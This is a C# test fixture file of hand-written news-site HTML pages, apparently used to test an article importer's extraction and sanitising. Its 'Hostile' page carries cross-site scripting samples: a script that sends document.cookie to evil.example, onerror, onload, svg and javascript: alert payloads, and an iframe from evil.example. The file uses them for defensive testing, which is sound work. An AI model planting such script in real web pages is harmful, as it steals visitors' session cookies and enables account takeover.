namespace ClaimTracker.Core.Tests.Importing;

/// <summary>Hand-written pages shaped like real news sites: header, navigation, ads, the article, related links, comments.</summary>
internal static class NewsPages
{
    public const string ArticleSentence = "The port authority said the harbour would reopen on Monday after the storm damage was repaired.";

    public const string Harbour = """
        <!DOCTYPE html>
        <html lang="en-GB">
        <head>
          <meta charset="utf-8">
          <title>Harbour to reopen Monday | The Northern Ledger</title>
          <meta property="og:title" content="Harbour to reopen on Monday after storm repairs">
          <meta property="og:site_name" content="The Northern Ledger">
          <meta property="og:type" content="article">
          <meta property="article:published_time" content="2026-03-14T08:30:00+01:00">
          <meta name="author" content="Ingrid Lindqvist">
          <link rel="canonical" href="https://ledger.example/news/2026/03/harbour-reopens">
          <link rel="stylesheet" href="/static/site.css">
          <script>window.dataLayer = window.dataLayer || []; function track(){ dataLayer.push(arguments); }</script>
          <script src="https://ads.example/loader.js" async></script>
        </head>
        <body>
          <header class="site-header">
            <a class="logo" href="/">The Northern Ledger</a>
            <nav class="main-nav" aria-label="Sections">
              <ul><li><a href="/news">News</a></li><li><a href="/business">Business</a></li><li><a href="/sport">Sport</a></li><li><a href="/opinion">Opinion</a></li></ul>
            </nav>
            <form class="search" action="/search"><input name="q" placeholder="Search"><button>Go</button></form>
          </header>
          <div class="ad ad-leaderboard" id="ad-top">Advertisement <a href="https://ads.example/click?id=1">Cheap flights to Lisbon!</a></div>
          <main id="content">
            <article class="story">
              <h1 class="headline">Harbour to reopen on Monday after storm repairs</h1>
              <p class="byline">By <a rel="author" href="/staff/ingrid">Ingrid Lindqvist</a>, Harbour correspondent</p>
              <time datetime="2026-03-14T08:30:00+01:00">14 March 2026</time>
              <figure><img src="/img/harbour.jpg" alt="The harbour" onerror="alert('figure')"><figcaption>Cranes at the harbour. Photo: Ledger</figcaption></figure>
              <div class="story-body">
                <p>The port authority said the harbour would reopen on Monday after the storm damage was repaired.</p>
                <p>"We have checked every berth twice, and the cranes are safe," harbour master Omar Haddad told reporters on Friday. "Ships can come back."</p>
                <p>Shipping companies had warned that the closure was costing them about 2 million euros a day, according to the chamber of commerce.</p>
                <div class="ad ad-inline" data-ad-slot="inline-1">Advertisement: <a href="https://ads.example/click?id=2">Win a cruise</a></div>
                <p>A union official, who asked not to be named because talks were continuing, said dock workers had not been paid during the closure.</p>
                <p>The mayor, Sofia Alvarez, denied that the city had delayed the repairs, saying contractors had worked through the night since Wednesday.</p>
                <p>Fishermen in the old harbour were less convinced. "They promised us the same thing last winter," said Pavel Novak, who has fished from the port for thirty years.</p>
              </div>
            </article>
            <aside class="related">
              <h2>Related stories</h2>
              <ul>
                <li><a href="/news/2026/03/storm-warning">Storm warning issued for the coast</a></li>
                <li><a href="/news/2026/02/ferry-cancelled">Ferries cancelled as winds reach 120 km/h</a></li>
                <li><a href="/business/2026/03/shipping-costs">Shipping costs climb for a third month</a></li>
              </ul>
            </aside>
          </main>
          <section id="comments" class="comments">
            <h2>Comments (3)</h2>
            <div class="comment"><span class="comment-author">harbourfan</span><p>Finally! Took them long enough, honestly a disgrace.</p></div>
            <div class="comment"><span class="comment-author">sailor77</span><p>Does anyone know if the ferry to the islands runs again on Tuesday?</p></div>
          </section>
          <footer class="site-footer"><p>© 2026 The Northern Ledger. <a href="/privacy">Privacy</a> · <a href="/terms">Terms</a></p></footer>
          <script>track('pageview');</script>
        </body>
        </html>
        """;

    /// <summary>A section front: navigation, teasers and a newsletter form, but no article.</summary>
    public const string SectionFront = """
        <!DOCTYPE html>
        <html lang="en"><head><meta charset="utf-8"><title>News | The Northern Ledger</title></head>
        <body>
          <nav class="main-nav"><a href="/news">News</a> <a href="/business">Business</a> <a href="/sport">Sport</a></nav>
          <ul class="teasers">
            <li><a href="/a">Harbour to reopen</a></li>
            <li><a href="/b">Storm warning issued</a></li>
            <li><a href="/c">Ferries cancelled</a></li>
          </ul>
          <form class="newsletter"><input name="email"><button>Subscribe</button></form>
          <footer>© 2026</footer>
        </body></html>
        """;

    /// <summary>An article whose text mentions markup and whose markup tries to run script.</summary>
    public const string Hostile = """
        <!DOCTYPE html>
        <html><head><meta charset="utf-8"><title>Security researchers warn of scam</title>
        <script>document.location='https://evil.example/?c='+document.cookie</script></head>
        <body onload="alert('body')">
          <article>
            <h1>Security researchers warn of scam</h1>
            <p>Researchers said attackers hid the text &lt;script&gt;alert(1)&lt;/script&gt; in fake invoices sent to thousands of small firms.</p>
            <p><img src="x" onerror="alert('img')">The police said that nobody had been arrested yet, and that the investigation was continuing in three countries.</p>
            <p><a href="javascript:alert('link')">Click here</a> to read the warning, the agency added, noting that the scam had cost firms at least 4 million dollars.</p>
            <iframe src="https://evil.example/frame"></iframe>
            <p>"Never open an attachment you did not expect," the agency's director, Lena Moreau, told reporters on Thursday afternoon.</p>
            <script>alert('inline')</script>
            <svg onload="alert('svg')"><text>svg text</text></svg>
          </article>
        </body></html>
        """;
}
